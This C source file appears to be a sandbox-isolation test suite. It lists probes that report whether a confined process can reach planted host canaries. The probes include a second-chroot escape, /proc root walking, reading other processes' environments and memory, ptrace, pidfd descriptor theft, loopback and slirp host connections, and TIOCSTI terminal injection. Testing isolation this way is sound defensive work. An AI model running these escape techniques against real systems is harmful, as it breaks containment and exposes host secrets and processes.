/* Attempts on what the host has running and lying about: files, processes, sockets, descriptors. */
#include "attack.h"
#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>

/* Calls `what` for every process that is seen, until one succeeds. */
static int each_process(int (*what)(const char *directory, pid_t pid))
{
	DIR *all = opendir("/proc");
	for (struct dirent *entry; all && (entry = readdir(all));) {
		char path[300];
		pid_t pid = atoi(entry->d_name);
		if (pid <= 0)
			continue;
		snprintf(path, sizeof path, "/proc/%s", entry->d_name);
		if (what(path, pid))
			return 1;
	}
	return failed("no process that is seen leads there");
}

static int below_root(const char *directory, pid_t pid)
{
	static const char *const links[] = {"root", "cwd", "root/..", "cwd/../../../../../../.."};
	(void)pid;
	for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
		char path[1024];
		snprintf(path, sizeof path, "%s/%s%s", directory, links[i], SECRET_PATH);
		if (holds(AT_FDCWD, path, SECRET_TOKEN))
			return succeeded("%s/%s", directory, links[i]);
	}
	return 0;
}

static int others_roots(void) { return each_process(below_root); }

static int by_name(void)
{
	static char path[1024];
	snprintf(path, sizeof path, "/../../../../../../../..%s", SECRET_PATH);
	return holds(AT_FDCWD, path, SECRET_TOKEN) ? succeeded("%s", SECRET_PATH)
						   : failed("nothing of the host is there");
}

static int out_of_chroot(void)
{
	/* The known way: keep the working directory outside a second root. */
	mkdir("/tmp/attack-root", 0755);
	int here = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chroot("/tmp/attack-root") != 0)
		return failed("%s", strerror(errno));
	fchdir(here);
	for (int i = 0; i < 64; i++)
		chdir("..");
	return holds(AT_FDCWD, SECRET_PATH + 1, SECRET_TOKEN) ? succeeded("by a second chroot")
							      : failed("the root stays the root");
}

static int environment_of(const char *directory, pid_t pid)
{
	char path[320];
	(void)pid;
	snprintf(path, sizeof path, "%s/environ", directory);
	return holds(AT_FDCWD, path, ENVIRONMENT_TOKEN) ? succeeded("%s", path) : 0;
}

static int environments(void) { return each_process(environment_of); }

static int is_victim(const char *directory, pid_t pid)
{
	char path[320];
	(void)pid;
	snprintf(path, sizeof path, "%s/cmdline", directory);
	return holds(AT_FDCWD, path, VICTIM_NAME) ? succeeded("%s is a process of the host", directory)
						  : 0;
}

static int processes(void) { return each_process(is_victim); }

static int kill_victim(const char *directory, pid_t pid)
{
	return is_victim(directory, pid) && kill(pid, SIGUSR1) == 0 ? succeeded("pid %d", pid) : 0;
}

static int signals(void)
{
	/* By its number on the host too, unless the number is ours here. */
	if (VICTIM_PID > getpid() + 100 && kill(VICTIM_PID, SIGUSR1) == 0)
		return succeeded("the host's pid %d", VICTIM_PID);
	return each_process(kill_victim);
}

static int by_pidfd(void)
{
	int fd = syscall(SYS_pidfd_open, VICTIM_PID, 0);
	return by_result(fd < 0 ? -1 : syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0));
}

static int limits_of_victim(void)
{
	struct rlimit limit;
	return by_result(prlimit(VICTIM_PID, RLIMIT_CORE, NULL, &limit));
}

static int trace(pid_t pid)
{
	long done = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	if (done == 0)
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return by_result(done);
}

static int trace_victim(void) { return trace(VICTIM_PID); }

/* Whether the first process here has what we have lost: the host may have made it. */
static int first_is_stronger(void)
{
	static const char *const lines[] = {"Uid:", "CapPrm:", "CapBnd:", "NoNewPrivs:", "Seccomp:"};
	char texts[2][4096] = {"", ""};
	const char *const paths[] = {"/proc/self/status", "/proc/1/status"};
	for (int i = 0; i < 2; i++) {
		int fd = open(paths[i], O_RDONLY | O_CLOEXEC);
		if (fd < 0 || read(fd, texts[i], sizeof texts[i] - 1) <= 0)
			return 1;
		close(fd);
	}
	for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
		const char *ours = strstr(texts[0], lines[i]), *first = strstr(texts[1], lines[i]);
		if (!ours || !first || strncmp(ours, first, strcspn(ours, "\n") + 1) != 0)
			return 1;
	}
	return 0;
}

static int trace_first(void) { return first_is_stronger() ? trace(1) : failed("it is as we are"); }

static int memory_of(const char *directory, pid_t pid)
{
	char path[320];
	snprintf(path, sizeof path, "%s/mem", directory);
	if (!is_victim(directory, pid) && !(pid == 1 && first_is_stronger()))
		return 0;
	int fd = open(path, O_RDWR | O_CLOEXEC);
	return fd >= 0 ? succeeded("%s opens", path) : 0;
}

static int memories(void) { return each_process(memory_of); }

static int memory_by_call(void)
{
	char byte;
	struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
	return by_permission(syscall(SYS_process_vm_readv, VICTIM_PID, &here, 1, &there, 1, 0)) &&
			       errno != ESRCH
		       ? 1
		       : failed("%s", strerror(errno));
}

static int descriptor_of_other(void)
{
	int fd = syscall(SYS_pidfd_open, first_is_stronger() ? 1 : VICTIM_PID, 0);
	return by_result(fd < 0 ? -1 : syscall(SYS_pidfd_getfd, fd, 0, 0));
}

static int hears(int fd, const struct sockaddr *address, socklen_t size)
{
	char text[64] = "";
	struct timeval wait = {.tv_sec = 1};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof wait);
	int heard = connect(fd, address, size) == 0 && read(fd, text, sizeof text - 1) > 0 &&
		    strstr(text, NET_TOKEN);
	close(fd);
	return heard;
}

static int loopback(void)
{
	/* The last two are what slirp calls the host by default. */
	static const char *const names[] = {"127.0.0.1", "127.1.2.3", "0.0.0.0", "10.0.2.2", "10.0.2.3",
					    NULL};
	for (const char *const *name = names; *name; name++) {
		struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(VICTIM_PORT)};
		inet_pton(AF_INET, *name, &address.sin_addr);
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (fd >= 0 && hears(fd, (void *)&address, sizeof address))
			return succeeded("%s answers", *name);
	}
	return failed("nobody answers");
}

static int loopback_6(void)
{
	static const char *const names[] = {"::1", "::ffff:127.0.0.1", "fd00::2", NULL};
	for (const char *const *name = names; *name; name++) {
		struct sockaddr_in6 address = {.sin6_family = AF_INET6,
					       .sin6_port = htons(VICTIM_PORT)};
		inet_pton(AF_INET6, *name, &address.sin6_addr);
		int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (fd >= 0 && hears(fd, (void *)&address, sizeof address))
			return succeeded("%s answers", *name);
	}
	return failed("nobody answers");
}

static int abstract_socket(void)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	strcpy(address.sun_path + 1, ABSTRACT_NAME);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	socklen_t size = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(ABSTRACT_NAME);
	return fd >= 0 && hears(fd, (void *)&address, size) ? succeeded("@%s answers", ABSTRACT_NAME)
							    : failed("%s", strerror(errno));
}

/* Whether a file of this tree was replaced while somebody has it open, as dpkg replaces its status
 * while apt runs: /proc says "NAME (deleted)", and NAME is another file of the same file system. It
 * need not be gone: dpkg links it to another name before. */
static int was_replaced_here(const char *link, const struct stat *status)
{
	static const char ending[] = " (deleted)";
	char name[200] = "";
	struct stat named;
	size_t length = strlen(link), rest = strlen(ending);
	if (length <= rest || strcmp(link + length - rest, ending) != 0)
		return 0;
	memcpy(name, link, length - rest);
	return stat(name, &named) == 0 && named.st_dev == status->st_dev;
}

/* A descriptor that leads to something of the host: anything but a pipe, the null device, what has
 * or had the same name here, and a program that everybody may read and nobody here write. A log that
 * is a pipe cannot be cut or overwritten. */
static int bad_descriptor(const char *directory, int fd)
{
	char path[400], link[200] = "";
	struct stat status, named;
	snprintf(path, sizeof path, "%s/%d", directory, fd);
	if (readlink(path, link, sizeof link - 1) < 0 || stat(path, &status) != 0)
		return 0;
	if (S_ISFIFO(status.st_mode) || (S_ISCHR(status.st_mode) && status.st_rdev == makedev(1, 3)))
		return 0;
	if (stat(link, &named) == 0 && named.st_dev == status.st_dev && named.st_ino == status.st_ino)
		return 0;
	if (was_replaced_here(link, &status))
		return 0;
	/* Another's socket cannot be had by its name (proc_pid_fd(5)): ENXIO. mmdebstrap has one for
	 * its hooks. */
	int others_socket = S_ISSOCK(status.st_mode) && strcmp(directory, "/proc/self/fd") != 0;
	if (others_socket || (S_ISREG(status.st_mode) && (status.st_mode & S_IROTH))) {
		int again = open(path, O_RDWR | O_CLOEXEC);
		if (again < 0)
			return 0;
		close(again);
	}
	return succeeded("%s is %s", path, link);
}

static int descriptors(void)
{
	for (int fd = 0; fd < 4096; fd++)
		if (fcntl(fd, F_GETFD) >= 0 && !(fcntl(fd, F_GETFD) & FD_CLOEXEC) &&
		    bad_descriptor("/proc/self/fd", fd))
			return 1;
	return failed("pipes, and nothing else");
}

static int descriptors_of(const char *directory, pid_t pid)
{
	char path[300];
	if (pid == getpid())
		return 0;
	snprintf(path, sizeof path, "%s/fd", directory);
	DIR *all = opendir(path);
	int bad = 0;
	for (struct dirent *entry; all && !bad && (entry = readdir(all));)
		if (entry->d_name[0] != '.')
			bad = bad_descriptor(path, atoi(entry->d_name));
	if (all)
		closedir(all);
	return bad;
}

static int others_descriptors(void) { return each_process(descriptors_of); }

static int terminal(void)
{
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
	if (fd >= 0)
		return succeeded("/dev/tty opens; TIOCSTI: %s",
				 ioctl(fd, TIOCSTI, "") == 0 ? "works" : strerror(errno));
	for (fd = 0; fd < 256; fd++)
		if (isatty(fd))
			return succeeded("descriptor %d is a terminal; TIOCSTI: %s", fd,
					 ioctl(fd, TIOCSTI, "") == 0 ? "works" : strerror(errno));
	return failed("there is no terminal");
}

static int console(void)
{
	static const char *const files[] = {"/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0",
					    "/dev/hvc0", "/dev/vcs", NULL};
	return any_opens(files, O_WRONLY);
}

const struct attempt reaches[] = {
	{"file-by-name", by_name}, {"file-by-root", others_roots}, {"out-of-chroot", out_of_chroot},
	{"environment", environments}, {"processes", processes}, {"signal", signals},
	{"signal-by-pidfd", by_pidfd}, {"limits", limits_of_victim}, {"trace-victim", trace_victim},
	{"trace-first", trace_first}, {"memory", memories}, {"memory-by-call", memory_by_call},
	{"descriptor-of-other", descriptor_of_other}, {"loopback", loopback},
	{"loopback-6", loopback_6}, {"abstract-socket", abstract_socket},
	{"descriptors", descriptors}, {"others-descriptors", others_descriptors},
	{"terminal", terminal}, {"console", console}, {NULL, NULL},
};
